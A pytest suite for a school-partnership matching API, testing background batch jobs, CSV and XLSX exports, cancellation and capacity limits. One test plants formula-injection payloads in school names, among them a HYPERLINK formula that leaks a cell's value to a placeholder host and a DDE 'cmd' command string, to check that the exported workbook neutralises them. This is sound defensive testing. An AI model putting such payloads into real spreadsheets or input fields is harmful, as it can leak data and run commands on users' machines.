"""Batch jobs through the API: background run with progress, JSON and CSV results, cancellation."""

from __future__ import annotations

import io
import threading

import pandas as pd
import pytest
from fastapi.testclient import TestClient

import service.batch
from service.app import create_app
from tests.support import eventually
from tests.support.api import WRITE, finished_job, make_settings, registry_records, seed


@pytest.fixture
def client(tmp_path):
    with TestClient(create_app(make_settings(tmp_path))) as c:
        seed(c, registry_records(150, seed=11))
        yield c


def test_batch_runs_in_background_and_serves_json_and_csv(client):
    r = client.post("/batch", json={"options": {"mode": "optimal", "top_k": 10}}, headers=WRITE)
    assert r.status_code == 202
    job = r.json()
    assert job["status"] in ("queued", "running", "done")
    done = finished_job(client, job["id"])
    assert done["status"] == "done" and done["progress"] == 1.0 and done["summary"]
    result = client.get(f"/batch/{job['id']}/result", headers=WRITE).json()
    pairs = result["partnerships"]
    assert pairs and result["diagnostics"]["n_partnerships"] == len(pairs)
    schools = {s["school_id"]: s for s in client.get("/schools", params={"limit": 500}).json()["items"]}
    used: dict[str, int] = {}
    for p in pairs:
        uk, other = schools[p["uk_school_id"]], schools[p["partner_school_id"]]
        assert uk["country"] == "GB" and other["country"] != "GB"
        used[uk["school_id"]] = used.get(uk["school_id"], 0) + 1
        used[other["school_id"]] = used.get(other["school_id"], 0) + 1
    assert all(n <= schools[s]["free_capacity"] for s, n in used.items())  # capacities respected
    csv = client.get(f"/batch/{job['id']}/result", params={"format": "csv"}, headers=WRITE)
    assert csv.status_code == 200 and csv.headers["content-type"].startswith("text/csv")
    frame = pd.read_csv(io.StringIO(csv.text))
    assert list(frame["partner_school_id"]) == [p["partner_school_id"] for p in pairs]
    unmatched = client.get(f"/batch/{job['id']}/result", params={"format": "csv", "table": "unmatched"}, headers=WRITE)
    assert unmatched.status_code == 200
    assert client.post(f"/batch/{job['id']}/cancel", headers=WRITE).status_code == 409
    listed = client.get("/batch", headers=WRITE).json()
    assert listed["total"] == 1 and listed["items"][0]["id"] == job["id"]


def test_batch_for_a_cohort_and_bad_requests(client):
    schools = client.get("/schools", params={"limit": 500}).json()["items"]
    ids = [s["school_id"] for s in schools[:60]]  # of the seeded registry: both sides, compatible pairs among them
    job = client.post("/batch", json={"cohort": ids, "options": {"mode": "greedy"}}, headers=WRITE).json()
    done = finished_job(client, job["id"])
    assert done["status"] == "done", done
    pairs = client.get(f"/batch/{job['id']}/result", headers=WRITE).json()["partnerships"]
    assert pairs and {p["uk_school_id"] for p in pairs} | {p["partner_school_id"] for p in pairs} <= set(ids)
    uk_only = [s["school_id"] for s in schools if s["country"] == "GB"][:5]  # no possible pair: the job says why
    failed = finished_job(client, client.post("/batch", json={"cohort": uk_only}, headers=WRITE).json()["id"])
    assert failed["status"] == "failed" and "no school abroad" in failed["message"], failed
    r = client.post("/batch", json={"cohort": ["ghost-1", ids[0]]}, headers=WRITE)
    assert r.status_code == 422 and "ghost-1" in r.json()["detail"]
    r = client.post("/batch", json={"options": {"mode": "stable", "min_partners": 1}}, headers=WRITE)
    assert r.status_code == 422 and r.json()["errors"][0]["field"] == "min_partners"
    assert client.get("/batch/nope", headers=WRITE).status_code == 404
    assert client.get("/batch/nope/result", headers=WRITE).status_code == 404


def test_cancel_queued_and_running_jobs(client, monkeypatch):
    gate = threading.Event()

    def held_assign(*args, **kwargs):  # the real solver, started only once the test has asked to cancel
        gate.wait(30)
        return real_assign(*args, **kwargs)

    real_assign = service.batch.assign
    monkeypatch.setattr(service.batch, "assign", held_assign)
    first = client.post("/batch", json={"options": {"top_k": 5}}, headers=WRITE).json()["id"]
    second = client.post("/batch", json={"options": {"top_k": 5}}, headers=WRITE).json()["id"]  # queued behind it
    eventually(
        lambda: client.get(f"/batch/{first}", headers=WRITE).json()["status"] == "running",
        10,
        0.02,
        what="the first job to start running",
    )
    r = client.post(f"/batch/{second}/cancel", headers=WRITE)
    assert r.status_code == 200 and r.json()["status"] == "cancelled"
    assert client.post(f"/batch/{first}/cancel", headers=WRITE).status_code == 200
    gate.set()
    assert finished_job(client, first)["status"] == "cancelled"
    assert finished_job(client, second)["status"] == "cancelled"
    assert client.get(f"/batch/{first}/result", headers=WRITE).status_code == 409


def test_capacity_override_never_gives_places_to_schools_not_looking_api(tmp_path):
    """Issue 13: an API batch with capacity 2 leaves capacity-0 and inactive schools without partners; the
    result's workbook (GET /batch/{job}/result.xlsx) reads back with formula names neutralised."""
    import openpyxl

    from tests.support.factories import cohort

    formulas = ['=HYPERLINK("http://x.example/?q="&A2,"details")', "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)"]
    records, closed = [], set()
    for i, p in enumerate(cohort(24, 30, seed=5)):
        update: dict[str, object] = {"capacity": max(1, p.capacity), "active": True}
        if i % 3 == 0:
            update = {"capacity": 0, "active": True}
        elif i % 5 == 0:
            update = {"capacity": 2, "active": False}
        if i % 7 == 1:
            update["name"] = formulas[i % 4]
        if "capacity" in update and (update["capacity"] == 0 or not update["active"]):
            closed.add(p.school_id)
        records.append(p.model_copy(update=update).model_dump(mode="json"))
    with TestClient(create_app(make_settings(tmp_path))) as c:
        seed(c, records)
        job = c.post("/batch", json={"options": {"capacity": 2}}, headers=WRITE).json()
        assert finished_job(c, job["id"])["status"] == "done"
        pairs = c.get(f"/batch/{job['id']}/result", headers=WRITE).json()["partnerships"]
        matched = {p["uk_school_id"] for p in pairs} | {p["partner_school_id"] for p in pairs}
        assert pairs and not matched & closed
        r = c.get(f"/batch/{job['id']}/result.xlsx", headers=WRITE)
        assert r.status_code == 200 and r.headers["content-type"].startswith("application/vnd.openxmlformats")
        book = openpyxl.load_workbook(io.BytesIO(r.content))
        assert book.sheetnames == ["partnerships", "unmatched", "summary"]
        assert len(list(book["partnerships"].iter_rows())) == len(pairs) + 1
        cells = [v for sheet in book for row in sheet.iter_rows(values_only=True) for v in row if isinstance(v, str)]
        assert not [v for v in cells if v.startswith(("=", "+", "-", "@", "\t", "\r"))]
        assert any(v == "'" + f for v in cells for f in formulas)
        assert c.get("/batch/nope/result.xlsx", headers=WRITE).status_code == 404
